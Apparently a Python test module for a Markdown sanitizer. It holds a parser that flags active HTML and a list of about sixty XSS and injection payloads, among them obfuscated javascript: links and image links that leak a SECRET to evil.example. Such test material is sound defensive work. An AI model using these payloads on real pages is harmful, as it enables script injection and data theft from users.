"""Markdown that tries to do something, and a reader who tells what a page would do."""

from __future__ import annotations

import re
from html.parser import HTMLParser

ACTIVE = {
    "script",
    "iframe",
    "object",
    "embed",
    "svg",
    "form",
    "input",
    "style",
    "link",
    "meta",
    "base",
    "video",
}
LEADS = re.compile(r"(?!https?:|mailto:|ftp:|attachment:|data:image/png;)[a-z][a-z0-9+.-]*:")


class Page(HTMLParser):
    """What a browser would do with a page."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found, self.text = [], ""

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            value = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if name.startswith("on") or name in ("srcdoc", "style"):
                self.found.append(f"{tag} {name}={value}")
            if name in ("href", "src") and LEADS.match(value):
                self.found.append(f"{tag} {name}={value}")
            if name == "src" and re.match(r"(https?:|//|\\)", value):
                self.found.append(f"{tag} loads {value}")
        if tag in ACTIVE:
            self.found.append(tag)

    def handle_data(self, data):
        self.text += data


HOSTILE = {
    "a script": "<script>alert(1)</script>",
    "a script in capitals": "Hi <ScRiPt src=//evil></sCrIpT>",
    "a picture with a handler": 'see <img src=x onerror="alert(1)">',
    "a frame": "<iframe src='javascript:alert(1)'></iframe>",
    "a drawing": "<svg/onload=alert(1)>",
    "a tag that does not end": "<img src=x onerror=alert(1) ",
    "a tag over lines": "<img\nsrc=x\nonerror=alert(1)>",
    "a comment": "<!-- x --><script>alert(1)</script>",
    "a section": "<![CDATA[<script>alert(1)</script>]]>",
    "an instruction": "<?php echo 1 ?><script>alert(1)</script>",
    "an escaped tag": "\\<script>alert(1)</script>",
    "an escape of an escape": "\\\\<script>alert(1)</script>",
    "a tag in a heading": "# <script>alert(1)</script>",
    "a tag in a list": "- a\n- <script>alert(1)</script>\n\n      <script>alert(2)</script>",
    "a tag in a quote": "> <script>alert(1)</script>",
    "a tag in a table": "| a |\n|---|\n| <script>alert(1)</script> |",
    "a tag in code": "`<script>alert(1)</script>`",
    "a tag in what seems to be code": "\\`<script>alert(1)</script>`",
    "a tag in code that ends otherwise": "``a`<script>alert(1)</script>``",
    "a tag in code over a blank line": "`a\n\n<script>alert(1)</script>`",
    "a tag in a block of code": "```html\n<script>alert(1)</script>\n```",
    "a block of code in a list": "- x\n  ```\n  <script>alert(1)</script>\n  ```",
    "a block that is none": "a ```\n<script>alert(1)</script>\n```",
    "a block that ends early": "```\na\n```\n<script>alert(1)</script>",
    "a block that others end earlier": "~~~\na\n```\n<script>alert(1)</script>\n~~~",
    "a block that is open": "```\n<script>alert(1)</script>",
    "a block with ticks behind it": "``` a`b\n<script>alert(1)</script>\n```",
    "a raw block": "```{raw} html\n<script>alert(1)</script>\n```",
    "a raw block of pandoc's": "```{=html}\n<script>alert(1)</script>\n```",
    "mathematics over a block": "$$\n```\n<script>alert(1)</script>\n```\n$$",
    "a carriage return": "```\r<script>alert(1)</script>\r```",
    "a link to a script": "[x](javascript:alert(1))",
    "in capitals": "[x](JaVaScRiPt:alert(1))",
    "with a title": '[x](javascript:alert(1) "t")',
    "in angles": "[x](<javascript:alert(1)>)",
    "behind a line end": "[x](\njavascript:alert(1))",
    "behind spaces": f"[x]({' ' * 3000}javascript:alert(1))",
    "with an entity": "[x](java&#115;cript:alert(1))",
    "with its colon as one": "[x](javascript&colon;alert(1))",
    "with an entity for a tab": "[x](java&Tab;script:alert(1))",
    "with an entity of an entity": "[x](java&amp;#115;cript:alert(1))",
    "with an escaped colon": "[x](javascript\\:alert(1))",
    "with a control": "[x](\x01javascript:alert(1))",
    "by reference": "[x][y]\n\n[y]: javascript:alert(1)",
    "by reference on the next line": "[x][y]\n\n[y]:\n  javascript:alert(1)",
    "by reference with itself": "[javascript:alert(1)]\n\n[javascript:alert(1)]: javascript:alert(1)",
    "as an address": "<javascript:alert(1)>",
    "as data": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "another language": "[x](vbscript:msgbox(1))",
    "round code": "[`x`](javascript:alert(1))",
    "in a picture": "![x](javascript:alert(1))",
    "a picture that tells": "![x](https://evil.example/?q=SECRET)",
    "one with no scheme": "![x](//evil.example/?q=SECRET)",
    "one with backslashes": "![x](\\\\evil.example/x)",
    "one by reference": "![x][y]\n\n[y]: https://evil.example/?q=SECRET",
    "one with brackets": "![a [b] c](https://evil.example/?q=SECRET)",
    "one that is escaped, and escaped": "\\\\![x](https://evil.example/?q=SECRET)",
    "one with a drawing": "![x](data:image/svg+xml;base64,AAAA)",
    "one in a link": "[![x](https://evil.example/y)](https://a.org)",
    "one that lies far": f"![x]({'a' * 5000}https://evil.example/y)",
    "a link with a handler": '<a href="https://a.org" onclick="alert(1)">x</a>',
    "an address that is a tag": "<https://onmouseover=alert(1)//a.org>",
    "mathematics that links": r"$\href{javascript:alert(1)}{x}$",
    "a surrogate": "\ud800<script>alert(1)</script>",
}  # fmt: skip
